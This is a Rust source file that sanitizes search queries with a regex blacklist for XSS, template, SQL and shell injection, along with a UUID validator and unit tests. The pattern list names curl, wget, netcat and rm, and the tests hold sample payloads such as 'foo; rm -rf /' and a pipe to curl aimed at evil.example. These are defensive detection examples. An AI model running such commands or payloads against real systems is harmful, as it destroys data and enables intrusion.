//! Compiled pattern tables for query sanitization.
//!
//! Patterns are compiled once into statics and reused across requests, so
//! every request sees identical matching semantics.

use std::sync::LazyLock;

use regex::Regex;

/// Injection/XSS/templating/shell/SQL patterns rejected outright.
pub static SUSPICIOUS_PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        // XSS
        r"(?is)<script[^>]*>.*?</script>",
        r"(?is)<iframe[^>]*>.*?</iframe>",
        r"(?is)<object[^>]*>.*?</object>",
        r"(?i)<embed[^>]*>",
        r"(?i)javascript:",
        r"(?i)vbscript:",
        r"(?i)on\w+\s*=",
        r#"(?i)<img[^>]*src\s*=\s*["']?javascript:"#,
        // Template injection
        r"\{\{.*\}\}",
        r"\$\{.*\}",
        r"#\{.*\}",
        // Search engine script injection
        r#"(?i)\{.*"script".*\}"#,
        r#"(?i)\{.*"source".*\}"#,
        r#"(?i)"_source":"#,
        r#"(?i)"query":\s*\{.*"script""#,
        // SQL injection
        r"(?i)union\s+select",
        r"(?i)drop\s+table",
        r"(?i)delete\s+from",
        r"(?i)insert\s+into",
        r"(?i)update\s+set",
        // Command injection
        r"(?i);\s*(rm|del|format|shutdown)",
        r"(?i)\|\s*(curl|wget|nc|netcat)",
        r"`.*`",
        r"\$\(.*\)",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("pattern table entry must compile"))
    .collect()
});

/// Characters stripped from accepted input (literal removal, not escaping).
pub const DANGEROUS_CHARS: &[char] = &[
    '<', '>', '"', '\'', '&', '{', '}', '[', ']', '(', ')', ';', '|', '`', '$', '\n', '\r', '\t',
];

/// UUID v1-v5 with the RFC 4122 variant bits.
static UUID_PATTERN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")
        .expect("UUID pattern must compile")
});

/// Facet names clients may request.
pub const ALLOWED_FACETS: &[&str] = &[
    "categories",
    "resourceTypes",
    "plans",
    "verified",
    "tags",
    "cities",
    "regions",
    "countries",
];

pub fn contains_suspicious_patterns(input: &str) -> bool {
    SUSPICIOUS_PATTERNS.iter().any(|p| p.is_match(input))
}

pub fn contains_dangerous_chars(input: &str) -> bool {
    input.chars().any(|c| DANGEROUS_CHARS.contains(&c))
}

pub fn is_valid_uuid(value: &str) -> bool {
    UUID_PATTERN.is_match(value)
}

/// Strips dangerous characters, removes every blacklist match, and
/// collapses whitespace. Idempotent: sanitizing sanitized text is a no-op.
pub fn sanitize(input: &str) -> String {
    let mut sanitized: String = input
        .trim()
        .chars()
        .filter(|c| !DANGEROUS_CHARS.contains(c))
        .collect();

    for pattern in SUSPICIOUS_PATTERNS.iter() {
        // Removal can splice two fragments into a fresh match, so strip to
        // a fixpoint. Each pass strictly shrinks the string.
        while pattern.is_match(&sanitized) {
            sanitized = pattern.replace_all(&sanitized, "").into_owned();
        }
    }

    sanitized.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_script_tag_is_suspicious() {
        assert!(contains_suspicious_patterns(
            "<script>alert('xss')</script>"
        ));
        assert!(contains_suspicious_patterns("<SCRIPT>a</SCRIPT>"));
    }

    #[test]
    fn test_sql_and_shell_patterns() {
        assert!(contains_suspicious_patterns("x UNION SELECT password"));
        assert!(contains_suspicious_patterns("foo; rm -rf /"));
        assert!(contains_suspicious_patterns("a | curl evil.example"));
        assert!(contains_suspicious_patterns("${process.env}"));
    }

    #[test]
    fn test_plain_text_is_clean() {
        assert!(!contains_suspicious_patterns("restaurants in Douala"));
        assert!(!contains_dangerous_chars("restaurants in Douala"));
    }

    #[test]
    fn test_sanitize_removes_script_entirely() {
        // The angle brackets go first, the residual keywords stay as text
        let sanitized = sanitize("hello <b>world</b>");
        assert_eq!(sanitized, "hello bworld/b");
        assert!(!contains_dangerous_chars(&sanitized));
    }

    #[test]
    fn test_sanitize_is_idempotent() {
        let cases = [
            "<script>alert('x')</script> restaurants",
            "  spaced   out\ttext \n",
            "javascript:void(0)",
            "plain text already clean",
        ];
        for case in cases {
            let once = sanitize(case);
            assert_eq!(sanitize(&once), once, "not idempotent for {case:?}");
        }
    }

    #[test]
    fn test_uuid_validation() {
        assert!(is_valid_uuid("6fa459ea-ee8a-3ca4-894e-db77e160355e"));
        assert!(is_valid_uuid("16FD2706-8BAF-433B-82EB-8C7FADA847DA"));
        assert!(!is_valid_uuid("not-a-uuid"));
        // Version nibble outside 1-5
        assert!(!is_valid_uuid("6fa459ea-ee8a-7ca4-894e-db77e160355e"));
    }
}
